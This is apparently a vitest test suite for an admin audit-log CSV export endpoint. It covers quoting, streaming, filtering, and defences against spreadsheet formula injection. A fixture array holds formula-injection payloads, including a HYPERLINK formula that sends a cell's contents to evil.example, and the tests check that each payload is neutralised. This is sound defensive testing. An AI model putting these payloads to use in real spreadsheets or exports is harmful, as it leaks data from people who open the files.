import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_CSV_COLUMNS, AuditLogPage, ErrorBody, IDENTITY_HEADER } from '@inkwell/contracts';
import { csvCell, csvLine, csvPieces, CsvReader, CSV_HEADER, PIECE_CHARS, uncell } from './audit-csv';
import { EXPORT_BATCH } from './audit-search.service';
import type { SeedEvent } from './testing/seed-events';
import { startSearchHarness, type SearchHarness } from './testing/search-harness';

/*
 * GET /api/admin/audit-logs/export.csv: a few thousand events (more than one keyset batch), some
 * with values a spreadsheet would run as formulas, read back with an RFC 4180 reader.
 */

// Each OWASP trigger, the quote that undoes the neutralising, and CSV's own special characters.
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd', "'=already quoted", 'comma, "quotes"\r\nand lines', ''];
const COUNT = EXPORT_BATCH + 1_234;

function event(i: number): SeedEvent {
  const hostile = HOSTILE[i % HOSTILE.length] ?? '';
  return {
    occurred_at: new Date(Date.UTC(2026, 10, 1) + i * 60_000).toISOString(),
    service: i % 3 === 0 ? 'gateway' : 'auth',
    type: i % 3 === 0 ? 'api' : 'user',
    action: i % 3 === 0 ? 'api.request' : 'auth.login',
    result: i % 10 === 0 ? 'failure' : 'success',
    actor_kind: 'user',
    actor_id: `u${i % 17}`,
    actor_email: i % 5 === 0 ? hostile : `user${i % 17}@example.com`,
    actor_role: 'viewer',
    resource_type: i % 4 === 0 ? 'route' : null,
    resource_id: i % 4 === 0 ? `GET /api/items/${i}` : null,
    ip: `10.0.${i % 7}.${i % 250}`,
    user_agent: i % 2 === 0 ? hostile : 'Mozilla/5.0 (X11; Linux x86_64)',
    request_id: i % 6 === 0 ? null : `req-${i}`,
    details: { i, note: hostile },
  };
}

let h: SearchHarness;

beforeAll(async () => {
  h = await startSearchHarness();
  await h.seed(Array.from({ length: COUNT }, (_, i) => event(i)));
});

afterAll(async () => {
  await h.close();
});

const exportCsv = (query: Record<string, string>) =>
  request(h.service.app)
    .get('/api/admin/audit-logs/export.csv')
    .query(query)
    .set(IDENTITY_HEADER, h.as())
    .buffer(true)
    .parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => done(null, text));
    });

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const reader = new CsvReader((cells) => rows.push(cells));
  // In uneven pieces, as a network delivers it: cells and quotes cut anywhere.
  for (let i = 0; i < text.length; i += 997) reader.push(text.slice(i, i + 997));
  reader.end();
  return rows;
}

/** Every stored event, newest first, as JSON pages of the search (the export must say the same). */
async function allEvents(query: Record<string, string>) {
  const out: AuditLogPage['items'] = [];
  let cursor: string | null = null;
  do {
    const res = await request(h.service.app)
      .get('/api/admin/audit-logs')
      .query({ ...query, limit: 500, ...(cursor === null ? {} : { cursor }) })
      .set(IDENTITY_HEADER, h.as())
      .expect(200);
    const page = AuditLogPage.parse(res.body);
    out.push(...page.items);
    cursor = page.next_cursor;
  } while (cursor !== null);
  return out;
}

describe('GET /api/admin/audit-logs/export.csv', () => {
  it('a cell a spreadsheet would run as a formula starts with a quote; every text cell is quoted; null is empty', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(HOSTILE.slice(0, 6).map((v) => csvCell(v).slice(0, 2))).toEqual(Array(6).fill(`"'`));
    expect(csvCell("'x")).toBe(`"''x"`);
    expect(csvCell('say "hi", bye')).toBe('"say ""hi"", bye"');
    expect(csvCell(null)).toBe('');
    expect(csvCell('')).toBe('""');
    expect(csvCell(42)).toBe('42');
  });

  it('writes a line straight from pg\'s values, the cells the search\'s JSON holds, and refuses a value of the wrong kind', () => {
    const at = new Date('2026-11-01T10:00:00.123Z');
    // A resource id without a type: the entry has no resource then (`resource: null`), so the cell is empty.
    const row: unknown[] = [7, 'e-7', at, at, 'auth', 'user', 'auth.login', 'success', 'user', 'u1', '=cmd@x', null, null, 'orphan', '10.0.0.1', null, null, { note: '"hi"' }, 'h7'];
    expect(csvLine(row)).toBe(
      `7,"e-7","2026-11-01T10:00:00.123Z","2026-11-01T10:00:00.123Z","auth","user","auth.login","success","user","u1","'=cmd@x",,,,"10.0.0.1",,,"{""note"":""\\""hi\\""""}","h7"\r\n`,
    );
    expect(() => csvLine(row.with(0, '7'))).toThrow(/seq/);
    expect(() => csvLine(row.with(2, '2026-11-01'))).toThrow(/occurred_at/);
    expect(() => csvLine(row.with(17, ['a']))).toThrow(/details/);
    expect(() => csvLine(row.with(4, null))).toThrow(/service/);
    expect(() => csvLine(row.slice(1))).toThrow(/18 values for 19 columns/);
  });

  it('hands the socket pieces under V8\'s large-object size, cut between lines, a batch\'s last piece without waiting for the next batch', async () => {
    const rowOf = (seq: number) => [seq, 'e', new Date(0), new Date(0), 's', 'api', 'a', 'success', 'user', null, null, null, null, null, null, null, null, { pad: 'x'.repeat(300) }, 'h'];
    const line = (seq: number) => csvLine(rowOf(seq));
    async function* batches() {
      yield Array.from({ length: 300 }, (_, i) => rowOf(1000 - i));
      yield [rowOf(5)];
    }
    const pieces: string[] = [];
    for await (const piece of csvPieces(batches())) pieces.push(piece);
    expect(pieces.join('')).toBe(CSV_HEADER + Array.from({ length: 300 }, (_, i) => line(1000 - i)).join('') + line(5));
    expect(pieces.length).toBeGreaterThan(3);
    for (const piece of pieces) {
      expect(piece.length).toBeLessThan(PIECE_CHARS + line(1).length);
      expect(piece.endsWith('\r\n')).toBe(true);
    }
    // The second batch's one line is a piece of its own: the first batch's text was all handed over.
    expect(pieces.at(-1)).toBe(line(5));
  });

  it('streams every event as an attachment: a header, then rows that read back to the stored events, newest first', async () => {
    const res = await exportCsv({}).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="?audit-log-\d{4}-\d{2}-\d{2}\.csv"?$/);
    // Streamed: no length known up front.
    expect(res.headers['transfer-encoding']).toBe('chunked');
    const text = res.body as string;
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows).toHaveLength(COUNT);

    const stored = await allEvents({});
    expect(stored).toHaveLength(COUNT);
    const expected = stored.map((e) => [
      String(e.seq), e.event_id, e.occurred_at, e.recorded_at, e.service, e.type, e.action, e.result, e.actor.kind, e.actor.id ?? '', e.actor.email ?? '', e.actor.role ?? '',
      e.resource?.type ?? '', e.resource?.id ?? '', e.ip ?? '', e.user_agent ?? '', e.request_id ?? '', JSON.stringify(e.details), e.hash,
    ]);
    expect(rows.map((r) => r.map(uncell))).toEqual(expected);
    // The details read back as the stored JSON.
    expect(JSON.parse(uncell(rows[0]?.[AUDIT_CSV_COLUMNS.indexOf('details')] ?? ''))).toEqual(stored[0]?.details);
  });

  it('no cell of the file starts with a formula character: the hostile values are there, each behind a quote', async () => {
    const rows = parseCsv((await exportCsv({}).expect(200)).body as string).slice(1);
    const cells = rows.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const v of HOSTILE.slice(0, 7)) expect(cells).toContain(`'${v}`);
    // The raw bytes of one: quoted, its quotes doubled, the quote in front.
    expect((await exportCsv({ actor: 'u0', result: 'failure' })).body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  });

  it('takes the search\'s filters', async () => {
    const filtered = parseCsv((await exportCsv({ result: 'failure', type: 'api' }).expect(200)).body as string).slice(1);
    const expected = await allEvents({ result: 'failure', type: 'api' });
    expect(expected.length).toBeGreaterThan(0);
    expect(filtered.map((r) => Number(r[0]))).toEqual(expected.map((e) => e.seq));
    // A filter nothing matches: the header alone.
    expect(parseCsv((await exportCsv({ actor: 'nobody' }).expect(200)).body as string)).toEqual([[...AUDIT_CSV_COLUMNS]]);
  });

  it('refuses bad filters with 400 before any CSV, and takes no page parameters', async () => {
    for (const query of [{ type: 'nope' }, { limit: '10' }, { cursor: '5' }, { from: 'yesterday' }]) {
      const res = await request(h.service.app).get('/api/admin/audit-logs/export.csv').query(query).set(IDENTITY_HEADER, h.as()).expect(400);
      expect(ErrorBody.parse(res.body).code).toBe('validation_failed');
    }
  });
});
